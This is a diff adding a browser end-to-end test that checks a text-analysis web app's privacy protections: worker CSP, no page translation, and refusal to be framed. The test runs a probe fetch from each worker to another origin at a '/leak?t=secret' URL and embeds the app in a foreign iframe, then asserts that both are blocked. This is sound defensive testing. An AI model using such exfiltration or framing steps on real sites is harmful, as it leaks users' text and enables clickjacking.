@@ -270,3 +270,44 @@ test('the service worker makes the page cross-origin isolated, so the engine can
   await screenshot(ctx, page, '34-isolated-threads')
   await context.close()
 })
+
+test('the workers get the Content-Security-Policy too, the page asks not to be translated, and no other site can frame it', async (ctx) => {
+  // Privacy QA: the policy was a <meta> tag only, which a worker does not inherit: a fetch() to another origin from
+  // inside the NER worker, which holds all the text, went out. Page translation sends the page's text out too, and
+  // any site could frame the app and lay its own controls over it.
+  const otherOrigin = ctx.origin.replace('127.0.0.1', 'localhost')
+  const { context } = await newRecordedContext(ctx)
+  const page = await openApp(ctx, context)
+  await waitForModelReady(page)
+  assert.equal(await page.getAttribute('html', 'translate'), 'no')
+  assert.equal(await page.getAttribute('meta[name=google]', 'content'), 'notranslate')
+  await page.waitForFunction(() => navigator.serviceWorker?.controller !== null, null, { timeout: 30_000 })
+  await page.reload()
+  await waitForModelReady(page)
+  await setTextAndWait(page, '李娜在武汉。')
+  const workers = page.workers()
+  assert.ok(workers.length >= 1, 'the NER worker runs')
+  for (const worker of workers) {
+    const outcome = await worker.evaluate((url) => fetch(url).then(() => 'sent', () => 'blocked'), `${otherOrigin}/leak?t=secret`)
+    assert.equal(outcome, 'blocked', `a fetch from ${worker.url()} to another origin`)
+  }
+  assert.ok(!ctx.server.state.log.some((r) => r.url.includes('/leak')), 'nothing reached the other origin')
+
+  // Framed by another site, served by the service worker: frame-ancestors 'none' stops it.
+  const host = await context.newPage()
+  await host.goto(`${otherOrigin}/__e2e__/`).catch(() => {}) // any page of another origin
+  await host.setContent(`<iframe src="${ctx.origin}/" style="width:800px;height:600px"></iframe>`)
+  await host.waitForTimeout(2000)
+  for (const frame of host.frames().slice(1)) assert.equal(await frame.locator(SELECTORS.editor).count(), 0, 'no editor in the frame')
+  await context.close()
+
+  // A first visit (no service worker yet): the app sees it is framed and does not start.
+  const fresh = await newRecordedContext(ctx)
+  const framing = await fresh.context.newPage()
+  await framing.setContent(`<iframe src="${ctx.origin}/"></iframe>`)
+  const frame = framing.frames()[1]
+  await frame.locator('[data-testid=framed-notice]').waitFor({ timeout: 30_000 })
+  assert.equal(await frame.locator(SELECTORS.editor).count(), 0, 'the app did not start')
+  assert.equal(await frame.getAttribute('[data-testid=framed-notice] a', 'target'), '_blank')
+  await fresh.context.close()
+})
